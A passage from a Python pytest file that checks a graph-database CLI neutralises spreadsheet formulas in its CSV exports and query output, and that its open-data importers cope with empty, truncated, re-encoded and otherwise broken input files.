_NUMBER = re.compile(r"^[+-]?(\d+([.,]\d*)?|[.,]\d+)([eE][+-]?\d+)?$")


@pytest.fixture
def formula_env(mini_env, tmp_path):
    env, store, base = mini_env
    b = tmp_path / "formulas"
    b.mkdir()
    with open(b / "structures.csv", "w", newline="", encoding="utf-8") as fh:
        w = _csv.writer(fh)
        w.writerow(["id", "name", "description", "website"])
        for i, f in enumerate(FORMULAS):
            w.writerow([f"structure:f{i}", f, f, f])
    with open(b / "relations.csv", "w", newline="", encoding="utf-8") as fh:
        w = _csv.writer(fh)
        w.writerow(["source_id", "type", "target_id", "description", "scheme"])
        w.writerow(["structure:f0", "COOPERATES_WITH", "structure:f1", FORMULAS[0], FORMULAS[2]])
    result = CliRunner().invoke(main, ["load", str(b)], env=env)
    assert summary(result.stdout) == (len(FORMULAS) + 1, len(FORMULAS) + 1, 0)
    return env, store


def _dangerous_cells(text: str) -> list[str]:
    return [c for row in _csv.reader(io.StringIO(text)) for c in row if _TRIGGER.match(c) and not _NUMBER.match(c)]


def test_bundle_export_neutralises_formulas(formula_env, tmp_path):
    env, store = formula_env
    out = tmp_path / "export"
    result = CliRunner().invoke(main, ["export", str(out)], env=env)
    assert result.exit_code == 0, result.output
    text = (out / "structures.csv").read_text(encoding="utf-8")
    assert _dangerous_cells(text) == []
    assert _dangerous_cells((out / "relations.csv").read_text(encoding="utf-8")) == []
    rows = {r["id"]: r for r in _csv.DictReader(io.StringIO(text))}
    assert rows["structure:f0"]["name"] == "'" + FORMULAS[0]
    # the graph itself keeps the value as it was given
    assert store.run("MATCH (s {id: 'structure:f0'}) RETURN s.name AS n").iloc[0, 0] == FORMULAS[0]


@pytest.mark.parametrize("command", [
    ["cypher", "MATCH (s:Structure) RETURN s.id AS id, s.name AS name, s.description AS d, [s.name] AS l ORDER BY id"],
    ["cypher", "MATCH ()-[r:COOPERATES_WITH]->() RETURN r.description AS d, r.scheme AS s ORDER BY d"],
    ["query", "explore.find", "-p", "text=+", "-p", "limit=50"],
])
def test_csv_output_neutralises_formulas(formula_env, command):
    env, _ = formula_env
    result = CliRunner().invoke(main, [*command, "--format", "csv"], env=env)
    assert result.exit_code == 0, result.output
    assert len(result.output.splitlines()) > 1
    assert _dangerous_cells(result.output) == []


def test_neutralised_export_loads_back_to_the_same_values(formula_env, engine, tmp_path):
    env, store = formula_env
    out = tmp_path / "export"
    CliRunner().invoke(main, ["export", str(out)], env=env)
    copy = store_of(engine, f"reliab_in_{next(_graphs)}")
    try:
        mini_territories(copy)
        from loaders.load import load_path

        load_path(copy, out)
        q = "MATCH (s:Structure) RETURN s.id AS id, s.name AS name ORDER BY id"
        assert copy.run(q).to_dict("records") == store.run(q).to_dict("records")
    finally:
        copy.clear()


# --- the open-data importers on broken files ---------------------------------------------------------

OPENDATA = Path(__file__).resolve().parent / "fixtures" / "opendata"


def _variants(data: bytes, name: str) -> dict[str, bytes]:
    text = data.decode("utf-8", errors="replace")
    lines = text.splitlines(keepends=True)
    out = {
        "empty": b"",
        "header_only": lines[0].encode() if lines else b"",
        "truncated": data[: len(data) * 3 // 5],
        "truncated_mid_character": ("x" + text[: len(text) // 2] + "é").encode()[:-1],
        "binary": _garbage(3, 5000, nul=True),
        "utf16": text.encode("utf-16"),
        "cp1252": text.encode("cp1252", errors="replace"),
        "rows_twice": (text + "".join(lines[1:])).encode(),
        "huge_cell": ("".join(lines[:1]) + (lines[1].rstrip("\r\n") + "x" * 50_000 + "\n" if len(lines) > 1 else "")
                      + "".join(lines[2:])).encode(),
    }
    if name.endswith(".csv"):
        sep = ";" if lines and lines[0].count(";") > lines[0].count(",") else ","
        other = "," if sep == ";" else ";"
        out["mixed_separators"] = "".join(l.replace(sep, other) if i % 2 else l for i, l in enumerate(lines)).encode()
        out["crlf"] = text.replace("\n", "\r\n").encode()
    else:
        out.update({"json_empty_list": b"[]", "json_object": b"{}", "json_null": b"null", "json_number": b"42",
                    "json_list_of_junk": b'[1, "a", null, {"x": {"y": []}}]'})
    return out


def _opendata_cases():
    from loaders.opendata import detect_format

    for fixture in sorted(OPENDATA.rglob("*")):
        if not fixture.is_file():
            continue
        try:
            fmt = detect_format(fixture)
        except Exception:  # noqa: BLE001 - files that are only read beside another one
            continue
        for variant in _variants(fixture.read_bytes(), fixture.name):
            yield pytest.param(fixture, fmt, variant, id=f"{fixture.parent.name}/{fixture.name}:{variant}")


@pytest.mark.parametrize("fixture, fmt, variant", list(_opendata_cases()))
def test_open_data_importer_survives_broken_input(fixture, fmt, variant, tmp_path):
    from loaders.opendata import reader_for

    folder = tmp_path / fixture.parent.name
    folder.mkdir()
    for sibling in fixture.parent.iterdir():  # readers may look for a companion file (SIRENE)
        if sibling.is_file() and sibling != fixture:
            (folder / sibling.name).write_bytes(sibling.read_bytes())
    path = folder / fixture.name
    path.write_bytes(_variants(fixture.read_bytes(), fixture.name)[variant])
    try:
        result = reader_for(fmt)(path, active_only=False)
    except InputError as err:
        assert fixture.name in str(err) or str(folder) in str(err), str(err)
        return
    report = result.report
    assert report.read == report.loaded + report.rejected_rows + result.filtered
    for r in report.rejected:
        assert r.file and r.reason
